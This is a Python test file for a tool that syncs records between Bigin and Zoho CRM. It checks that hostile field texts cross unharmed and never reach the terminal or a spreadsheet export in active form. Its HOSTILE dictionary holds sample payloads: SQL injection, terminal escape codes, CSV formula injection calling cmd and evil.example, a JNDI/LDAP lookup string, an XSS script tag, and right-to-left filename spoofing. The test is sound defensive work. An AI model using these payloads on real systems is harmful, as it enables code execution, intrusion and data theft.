"""Whatever people and machines put into a field passes through a sync unharmed, and harms nobody who looks at it."""

import csv
import json
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from functools import reduce
from pathlib import Path

import httpx
import pytest

from bigin_sync.clock import SystemClock
from bigin_sync.emulator.door import mock_transport
from bigin_sync.emulator.metadata import ModuleDef
from bigin_sync.emulator.serve import Serving
from bigin_sync.emulator.table import Row
from bigin_sync.emulator.world import World
from bigin_sync.model.side import Side
from bigin_sync.pairing.bigin_crm import BIGIN_CRM
from bigin_sync.pairing.catalog import FieldType
from tests.commands import Ran
from tests.contract.shell import Shell
from tests.flow.two_orgs import LABELS, contacts, two_orgs

HOSTILE = {
    "sql": "Robert'); DROP TABLE link;-- \" ` \\",
    "screen": "\x1b[2J\x1b]0;owned\x07\x08\x9b31m red",
    "null": "before\0after",
    "markup": "[bold red]not red[/] [link=https://evil.example]here[/link] :bomb:",
    "formula": '=HYPERLINK("https://evil.example?x="&A1;"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 é e\u0301",
    "right to left": "abc\u202egnp.exe שלום مرحبا \u2066\u200b",
    "braces": "{0.__class__} %s %n ${jndi:ldap://evil.example}",
    "html": "<script>alert(1)</script> &lt;b&gt;",
    "lines": "one\ntwo\u2028three\x85four",
}
LONG = "Ein langer Satz, 👋 ungewöhnlich. " * 1900
"""Some 64 thousand characters."""
TEXTS = (*HOSTILE.values(), LONG)
MOVES = {*map(chr, range(0x20)), "\x7f", *map(chr, range(0x80, 0xA0)), *"\u202a\u202b\u202c\u202d\u202e"} - {"\n"}
"""Characters that move the cursor, colour the screen, or turn the direction of what follows."""
SPECS = {str(spec.kind): spec for spec in BIGIN_CRM.kinds}
NEEDED: Mapping[str, Mapping[str, object]] = {
    "deal": {"Stage": "Qualification", "Sub_Pipeline": "Sales Pipeline Standard"},
    "event": {
        "Start_DateTime": datetime(2026, 3, 24, 10, tzinfo=UTC),
        "End_DateTime": datetime(2026, 3, 24, 11, tzinfo=UTC),
    },
    "call": {"Call_Type": "Inbound", "Call_Start_Time": datetime(2026, 3, 2, 8, tzinfo=UTC), "Call_Duration": "05:00"},
}
"""What a record must have beside its texts."""
ODD = "Odd"
"""The first name of those whose telephone number CRM does not take."""
BELONGS: Mapping[str, Mapping[str, object]] = {
    "bigin": {"Related_To": None, "$se_module": "Contacts"},
    "crm": {"Who_Id": None},
}
"""How an org says to which contact an activity belongs."""


def fitting(text: str, length: int) -> str:
    """As much of a text as a field holds, which counts an emoji as two."""
    whole = text.encode("utf-16-le")
    return text if len(whole) <= 2 * length else whole[: 2 * length].decode("utf-16-le", "ignore").rstrip()


@dataclass(frozen=True)
class Texts:
    """The texts of a kind that both orgs have a field for, and how much each of them holds; the records there."""

    world: World
    kind: str

    def module(self, label: str) -> ModuleDef:
        side = Side.LEFT if label == "bigin" else Side.RIGHT
        return self.world.org(label).modules[SPECS[self.kind].on(side).module]

    def rows(self, label: str) -> Mapping[str, Row]:
        return self.world.org(label).tables[self.module(label).api_name].rows

    def lengths(self, label: str) -> dict[str, int]:
        """Field -> how many characters it holds in an org."""
        modules = [self.module(one).fields for one in LABELS]
        return {
            pair.name: self.module(label).fields[pair.name].length or 0
            for pair in SPECS[self.kind].fields
            if pair.type in {FieldType.TEXT, FieldType.TEXTAREA}
            and all(one.get(pair.name) and one[pair.name].data_type in {"text", "textarea"} for one in modules)
            and all(one[pair.name].writable for one in modules)
        }

    def of(self, text: str, *, by_way_of: Sequence[str]) -> dict[str, str]:
        """A text in every field, as it is left after it was in each of these orgs."""
        held = [self.lengths(label) for label in by_way_of]
        return {name: reduce(fitting, [lengths[name] for lengths in held], text) for name in held[0]}

    def held(self, label: str) -> list[dict[str, object]]:
        """What the fields hold of each record there."""
        return [{name: row.values.get(name) for name in self.lengths(label)} for row in self.rows(label).values()]


@pytest.fixture
def world() -> World:
    """Two orgs of this test alone: a record of each kind for each text, by turns in one org and in the other, and in
    Bigin one more contact for each text, with a telephone number that CRM does not take.
    """
    world = World.default(SystemClock())
    for label in LABELS:
        mine = [number for number in range(len(TEXTS)) if at_first(number) == label]
        on = ""
        for kind in SPECS:
            known = Texts(world, kind)
            ids = world.org(label).seed(
                known.module(label).api_name, [seeded(known, label, number, on) for number in mine]
            )
            on = ids[0] if kind == "contact" else on
    odd = [{"First_Name": ODD, "Last_Name": fitting(text, 80), "Phone": fitting(f"\n{text}", 50)} for text in TEXTS]
    world.bigin.seed("Contacts", odd)
    return world


def at_first(number: int) -> str:
    """Where the record of a text is made."""
    return LABELS[number % 2]


def seeded(known: Texts, label: str, number: int, on: str) -> dict[str, object]:
    """A record with a text in every field. on: the contact that an activity and a note belong to."""
    beside: dict[str, Mapping[str, object]] = {
        "note": {"Parent_Id": on, "$se_module": "Contacts"},
        "contact": {"Email": f"{number}@people.example"},
    }
    if known.module(label).activity:
        beside[known.kind] = {name: value or on for name, value in BELONGS[label].items()}
    told = {**NEEDED.get(known.kind, {}), **beside.get(known.kind, {}), **known.of(TEXTS[number], by_way_of=[label])}
    return {name: value for name, value in told.items() if name in known.module(label).fields or name[0] == "$"}


def edit_copies(known: Texts) -> None:
    """Where a record was not made, people put the next text into all of its fields."""
    for number in range(len(TEXTS)):
        first = at_first(number)
        (label,) = {*LABELS} - {first}
        copied = known.of(TEXTS[number], by_way_of=[first, label])
        (row,) = (row for row in known.rows(label).values() if copied.items() <= row.values.items())
        org, table = known.world.org(label), known.module(label).api_name
        new = known.of(TEXTS[(number + 1) % len(TEXTS)], by_way_of=[label])
        person = next(user for user in org.users if user != org.admin_id)
        org.tables[table].change(row, dict(new), modified=org.now(), modified_by=person)


def unlike(world: World, *, edited: int) -> list[str]:
    """Records that are not as they should be: with their own text, or where they were edited with the next one."""
    found = []
    for known in (Texts(world, kind) for kind in SPECS):
        wanted: dict[str, list[object]] = {label: [] for label in LABELS}
        for number in range(len(TEXTS)):
            made, (copy,) = at_first(number), {*LABELS} - {at_first(number)}
            way = [copy, made] if edited else [made, copy]
            for label, so_far in zip(way, (way[:1], way), strict=True):
                wanted[label].append(known.of(TEXTS[(number + edited) % len(TEXTS)], by_way_of=so_far))
        for label in LABELS:
            held = [one for one in known.held(label) if one.get("First_Name") != ODD]
            found += [f"{known.kind} of {label}: {one!r:.200}" for one in held if one not in wanted[label]]
            found += [f"{known.kind} of {label}, not there: {one!r:.200}" for one in wanted[label] if one not in held]
    return found


def texts_in(told: object) -> Iterator[str]:
    """Every text in a document, however deep."""
    if isinstance(told, str):
        yield told
    elif isinstance(told, Mapping | list):
        for one in told.values() if isinstance(told, Mapping) else told:
            yield from texts_in(one)


@pytest.fixture
def emulator(world: World) -> Iterator[str]:
    """The URL of their emulator."""
    with Serving(world) as door:
        yield door.url


@dataclass(frozen=True)
class Looks:
    """Commands that are typed. None of them may move the cursor or turn what follows."""

    shell: Shell

    def say(self, *words: str, code: int = 0) -> Ran:
        ran = self.shell.type(*words)
        assert ran.code == code, (words, ran)
        assert sorted(MOVES & set(ran.out + ran.err)) == [], words
        return ran

    def texts(self, *words: str) -> set[str]:
        """What is said as a document."""
        return {*texts_in(json.loads(self.say(*words, "--json").out))}

    def exported(self, run: str, file: Path) -> Path:
        """A file of what a run wrote."""
        self.say("history", run, "--export", str(file))
        return file


@pytest.fixture
def looks(shell: Shell) -> Looks:
    """Both orgs are connected, and all modules synced once."""
    for label in LABELS:
        assert shell.connect(label).code == 0
    looks = Looks(shell)
    first, *others = (spec.name for spec in BIGIN_CRM.modules)
    for modules in ([first], others):
        for name in modules:
            looks.say("module", "configure", name)
            looks.say("module", "activate", name)
        looks.say("sync", code=modules == [first])
    return looks


def test_hostile_texts_cross_unharmed_and_reach_neither_the_terminal_nor_a_spreadsheet(
    looks: Looks, world: World, tmp_path: Path
) -> None:
    assert unlike(world, edited=0) == []
    for kind in SPECS:
        edit_copies(Texts(world, kind))
    run = str(json.loads(looks.say("sync", "--json").out)["run"])
    assert unlike(world, edited=1) == []
    for words in (("plan",), ("status",), ("history",), ("history", run), ("problems",), ("conflicts",)):
        looks.say(*words)
    ids = [next(iter(Texts(world, kind).rows("crm"))) for kind in SPECS]
    for id in ids:
        looks.say("why", id)
    assert ids[-1] in looks.texts("why", ids[-1])
    told = looks.texts("history", run, "--limit", "0")
    assert [text for text in HOSTILE.values() if text not in told] == []
    told = looks.texts("problems", "--limit", "0")
    assert [text for text in HOSTILE.values() if f"{ODD} {text}" not in told] == []
    with looks.exported(run, tmp_path / "run.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in list(csv.reader(file))[1:] for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell[:1] in {*"=+-@\t\r\n"}] == []
    told = {*texts_in(json.loads(looks.exported(run, tmp_path / "run.json").read_text(encoding="utf-8")))}
    assert [text for text in HOSTILE.values() if text not in told] == []


def test_half_a_character_in_an_answer_stops_nothing() -> None:
    world = World.default(SystemClock())
    world.bigin.seed("Contacts", [{"Last_Name": "Cut HALF", "Email": "cut@people.example"}])
    orgs_answer = mock_transport(world)

    def cut(request: httpx.Request) -> httpx.Response:
        answer = orgs_answer.handle_request(request)
        content = answer.read().replace(b"HALF", rb"\ud83d")
        return httpx.Response(answer.status_code, headers={"Date": answer.headers["Date"]}, content=content)

    lines = {"bigin": httpx.MockTransport(cut), "crm": orgs_answer}
    with two_orgs(world, transports=lines) as orgs:
        assert orgs.sync().clean
        assert [row.values["Last_Name"] for row in contacts(world.crm)] == ["Cut \ufffd"]
        assert orgs.sync().writes == 0
    assert [row.values["Last_Name"] for row in contacts(world.bigin)] == ["Cut HALF"]
